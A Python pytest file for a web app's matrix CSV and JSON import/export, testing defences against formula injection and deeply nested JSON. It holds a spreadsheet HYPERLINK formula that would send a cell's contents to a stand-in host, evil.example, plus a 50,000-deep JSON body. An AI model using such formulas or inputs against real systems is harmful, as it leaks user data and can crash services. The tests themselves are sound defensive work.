"""Issue 17 on the matrix files: evidence that looks like a formula leaves in the CSV export as
text a spreadsheet will not run (and comes back unchanged on import), and an uploaded JSON file
nested 50,000 deep is refused with 422 naming the file, not a RecursionError (500)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlmodel import Session

from exchange.accounts import service as accounts_service
from exchange.accounts.models import ApiTokenCreate, User
from exchange.config import Settings
from exchange.profiles import matrix as matrix_service
from exchange.profiles.models import Business
from tests.conftest import Client

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def owner_api(make_client: Any, session: Session, settings: Settings, afreen: User) -> Client:
    issued = accounts_service.create_api_token(session, settings, afreen,
                                               ApiTokenCreate(name="tests"))
    session.commit()
    client: Client = make_client()
    return client.use_token(issued.token)


def _url(business: Business, rest: str = "") -> str:
    return f"/api/v1/businesses/{business.slug}/matrix{rest}"


def _evidence(session: Session, business: Business) -> dict[str, str | None]:
    session.expire_all()
    return {c.process: c.evidence for c in matrix_service.public_cells(session, business)}


def test_evidence_that_looks_like_a_formula_is_exported_as_text_and_imports_back(
        owner_api: Client, session: Session, afreen_firm: Business) -> None:
    process = next(iter(_evidence(session, afreen_firm)))
    r = owner_api.patch(_url(afreen_firm), json={"cells": [
        {"process": process, "level": 4, "offer": True, "need": 0, "evidence": HYPERLINK}]})
    assert r.status_code == 200, r.text

    exported = owner_api.get(_url(afreen_firm, "/export"))
    assert exported.status_code == 200
    rows = {row["process"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    assert rows[process]["evidence"] == "'" + HYPERLINK
    assert rows[process]["level"] == "4"

    before = _evidence(session, afreen_firm)
    back = owner_api.post(_url(afreen_firm, "/import"), content=exported.text,
                          headers={"content-type": "text/csv"})
    assert back.status_code == 200, back.text
    assert back.json()["changed"] == 0
    assert _evidence(session, afreen_firm) == before
    assert before[process] == HYPERLINK


@pytest.mark.parametrize("opening", ["[", '{"cells": '])
def test_json_nested_50000_deep_is_refused_naming_the_file(
        owner_api: Client, session: Session, afreen_firm: Business, opening: str) -> None:
    depth = 50_000
    body = opening * depth + "]" * depth if opening == "[" else (
        opening * depth + "[]" + "}" * depth)
    before = _evidence(session, afreen_firm)
    r = owner_api.post(_url(afreen_firm, "/import"), content=body,
                       headers={"content-type": "application/json"})
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    (error,) = r.json()["errors"]
    assert error["field"] == "file" and "nested" in error["message"]
    assert _evidence(session, afreen_firm) == before
